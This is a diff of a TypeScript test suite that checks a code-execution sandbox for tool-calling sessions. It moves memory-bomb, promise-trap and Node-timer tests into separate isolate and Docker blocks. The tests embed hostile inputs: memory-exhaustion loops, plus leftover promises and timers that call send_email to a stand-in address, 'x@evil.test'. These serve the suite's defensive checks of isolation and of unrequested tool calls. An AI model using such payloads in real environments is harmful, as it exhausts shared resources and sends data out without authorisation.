@@ -150,58 +150,58 @@ describe.each(CALLERS)('%s', (_label, callerA, callerB, backend, options) => {
     expect(r.error).toMatchObject({ kind: 'runtime', line: 4 })
     expect(r.observation).not.toContain('HIJACKED')
   })
+})
 
-  it.runIf(backend === 'isolate')(
-    "a memory bomb in A leaves B's state as it was (live or restored equal), and A restores to its last good state",
-    async () => {
-      const { rt, counted } = await attackRuntime({ sessions: { memoryMb: 64 } })
-      const a = sessionAs(rt, callerA)
-      const b = sessionAs(rt, callerB)
-      const setup = `const orders = await tools.list_orders({})
+/** Memory bombs beside a live session, on the isolate (sessions of one caller share its sandbox process). */
+describe.each([
+  ['one caller', undefined, undefined],
+  ['different callers', 'alice', 'mallory'],
+] as const)('memory bombs between two sessions of %s', (_label, callerA, callerB) => {
+  it("a memory bomb in A leaves B's state as it was (live or restored equal), and A restores to its last good state", async () => {
+    const { rt, counted } = await attackRuntime({ sessions: { memoryMb: 64 } })
+    const a = sessionAs(rt, callerA)
+    const b = sessionAs(rt, callerB)
+    const setup = `const orders = await tools.list_orders({})
       const stamp = [Math.random(), Date.now()]
       const byId = new Map(orders.map((o) => [o.id, o]))
       return stamp`
-      const stampA = (await runAs(rt, a, callerA, setup)).value
-      const stampB = (await runAs(rt, b, callerB, setup)).value
-      const executions = counted.total()
-      const bomb = await runAs(rt, a, callerA, 'const hog = []\nfor (;;) hog.push(new Uint8Array(1 << 20).fill(1))')
-      expect(bomb.error?.kind, bomb.observation).toBe('memory')
-      const check = 'return { stamp, size: byId.size, amount: byId.get("o4").amount }'
-      const afterB = await runAs(rt, b, callerB, check)
-      expect(afterB.error, afterB.observation).toBeNull()
-      expect(afterB.value).toEqual({ stamp: stampB, size: 5, amount: 300 })
-      const afterA = await runAs(rt, a, callerA, check)
-      expect(afterA.error, afterA.observation).toBeNull()
-      expect(afterA.value).toEqual({ stamp: stampA, size: 5, amount: 300 })
-      expect(afterA.observation).toMatch(/restored/i)
-      expect(counted.total(), 'no tool ran again to restore').toBe(executions)
-    },
-  )
+    const stampA = (await runAs(rt, a, callerA, setup)).value
+    const stampB = (await runAs(rt, b, callerB, setup)).value
+    const executions = counted.total()
+    const bomb = await runAs(rt, a, callerA, 'const hog = []\nfor (;;) hog.push(new Uint8Array(1 << 20).fill(1))')
+    expect(bomb.error?.kind, bomb.observation).toBe('memory')
+    const check = 'return { stamp, size: byId.size, amount: byId.get("o4").amount }'
+    const afterB = await runAs(rt, b, callerB, check)
+    expect(afterB.error, afterB.observation).toBeNull()
+    expect(afterB.value).toEqual({ stamp: stampB, size: 5, amount: 300 })
+    const afterA = await runAs(rt, a, callerA, check)
+    expect(afterA.error, afterA.observation).toBeNull()
+    expect(afterA.value).toEqual({ stamp: stampA, size: 5, amount: 300 })
+    expect(afterA.observation).toMatch(/restored/i)
+    expect(counted.total(), 'no tool ran again to restore').toBe(executions)
+  })
 
-  it.runIf(backend === 'isolate')(
-    "a bomb that aborts A's whole sandbox process mid-way through B's run: B's state survives, no tool runs twice",
-    async () => {
-      const { rt, counted } = await attackRuntime({ sessions: { memoryMb: 64 } })
-      const a = sessionAs(rt, callerA)
-      const b = sessionAs(rt, callerB)
-      await runAs(rt, a, callerA, 'const ready = true')
-      const setup = await runAs(rt, b, callerB, "const user = await tools.get_user({ id: 'u1' })\nconst seed = Math.random()\nseed")
-      expect(setup.error, setup.observation).toBeNull()
-      const inFlight = runAs(rt, b, callerB, 'await tools.sleep({ ms: 1500 })\nreturn user.name')
-      await pause(300)
-      const bomb = await runAs(rt, a, callerA, 'new Array(1e9).fill(1)')
-      expect(bomb.error?.kind, bomb.observation).toBe('memory')
-      const flown = await inFlight
-      if (callerA !== callerB) expect(flown.value, 'another caller is another process: its run goes on').toBe('Ana')
-      else if (!flown.ok) expect(flown.observation).toMatch(/sandbox|process|lost|restor/i)
-      const executions = counted.total()
-      const after = await runAs(rt, b, callerB, 'return [user.name, seed]')
-      expect(after.error, after.observation).toBeNull()
-      expect(after.value).toEqual(['Ana', setup.value])
-      expect(counted.total(), 'the restore ran no tool').toBe(executions)
-      expect(counted.counts.get('get_user')).toBe(1)
-    },
-  )
+  it("a bomb that aborts A's whole sandbox process mid-way through B's run: B's state survives, no tool runs twice", async () => {
+    const { rt, counted } = await attackRuntime({ sessions: { memoryMb: 64 } })
+    const a = sessionAs(rt, callerA)
+    const b = sessionAs(rt, callerB)
+    await runAs(rt, a, callerA, 'const ready = true')
+    const setup = await runAs(rt, b, callerB, "const user = await tools.get_user({ id: 'u1' })\nconst seed = Math.random()\nseed")
+    expect(setup.error, setup.observation).toBeNull()
+    const inFlight = runAs(rt, b, callerB, 'await tools.sleep({ ms: 1500 })\nreturn user.name')
+    await pause(300)
+    const bomb = await runAs(rt, a, callerA, 'new Array(1e9).fill(1)')
+    expect(bomb.error?.kind, bomb.observation).toBe('memory')
+    const flown = await inFlight
+    if (callerA !== callerB) expect(flown.value, 'another caller is another process: its run goes on').toBe('Ana')
+    else if (!flown.ok) expect(flown.observation).toMatch(/sandbox|process|lost|restor/i)
+    const executions = counted.total()
+    const after = await runAs(rt, b, callerB, 'return [user.name, seed]')
+    expect(after.error, after.observation).toBeNull()
+    expect(after.value).toEqual(['Ana', setup.value])
+    expect(counted.total(), 'the restore ran no tool').toBe(executions)
+    expect(counted.counts.get('get_user')).toBe(1)
+  })
 })
 
 describe("a session's memory limit", () => {
@@ -335,8 +335,26 @@ describe.each(BACKENDS)('timers and promises a session leaves behind (%s)', (bac
     expect(unmatchedCalls(rt.log.all())).toEqual([])
   })
 
-  it.runIf(backend === 'docker')("Node's own timers, reached by an import, never call a tool between runs", async () => {
+  it('a promise of run 1 that resolves during run 2 cannot make run 2 call tools it did not ask for', async () => {
     const { rt, counted } = await attackRuntime(options)
+    const a = rt.session()
+    await a.runCode(`globalThis.trap = new Promise((resolve) => { globalThis.spring = resolve }).then(() => tools.send_email({ to: 'x@evil.test', subject: 'sprung' }))
+      return 1`)
+    const r = await a.runCode("globalThis.spring?.()\nawait new Promise((r) => setTimeout(r, 100))\nreturn 'ran'")
+    // Run 2 itself sprang the trap: its own program asked for it, so the call is run 2's, logged and matched.
+    expect(r.error, r.observation).toBeNull()
+    expect(r.calls.map((c) => c.name)).toEqual(counted.counts.get('send_email') ? ['send_email'] : [])
+    expect(unmatchedCalls(rt.log.all())).toEqual([])
+  })
+})
+
+describe.skipIf(!dockerEngine.available)('what a Docker session run leaves in Node itself', () => {
+  beforeAll(async () => {
+    await ensureImage()
+  })
+
+  it("Node's own timers, reached by an import, never call a tool between runs", async () => {
+    const { rt, counted } = await attackRuntime({ sandbox: 'docker' })
     const a = rt.session()
     const left = await a.runCode(`const timers = await import('node:timers')
       timers.setInterval(() => { tools.send_email({ to: 'x@evil.test', subject: 'node tick' }).catch(() => {}) }, 20)
@@ -350,18 +368,6 @@ describe.each(BACKENDS)('timers and promises a session leaves behind (%s)', (bac
       next.calls.filter((c) => c.name === 'send_email'),
       next.observation,
     ).toEqual([])
-  })
-
-  it('a promise of run 1 that resolves during run 2 cannot make run 2 call tools it did not ask for', async () => {
-    const { rt, counted } = await attackRuntime(options)
-    const a = rt.session()
-    await a.runCode(`globalThis.trap = new Promise((resolve) => { globalThis.spring = resolve }).then(() => tools.send_email({ to: 'x@evil.test', subject: 'sprung' }))
-      return 1`)
-    const r = await a.runCode("globalThis.spring?.()\nawait new Promise((r) => setTimeout(r, 100))\nreturn 'ran'")
-    // Run 2 itself sprang the trap: its own program asked for it, so the call is run 2's, logged and matched.
-    expect(r.error, r.observation).toBeNull()
-    expect(r.calls.map((c) => c.name)).toEqual(counted.counts.get('send_email') ? ['send_email'] : [])
-    expect(unmatchedCalls(rt.log.all())).toEqual([])
   })
 })
 
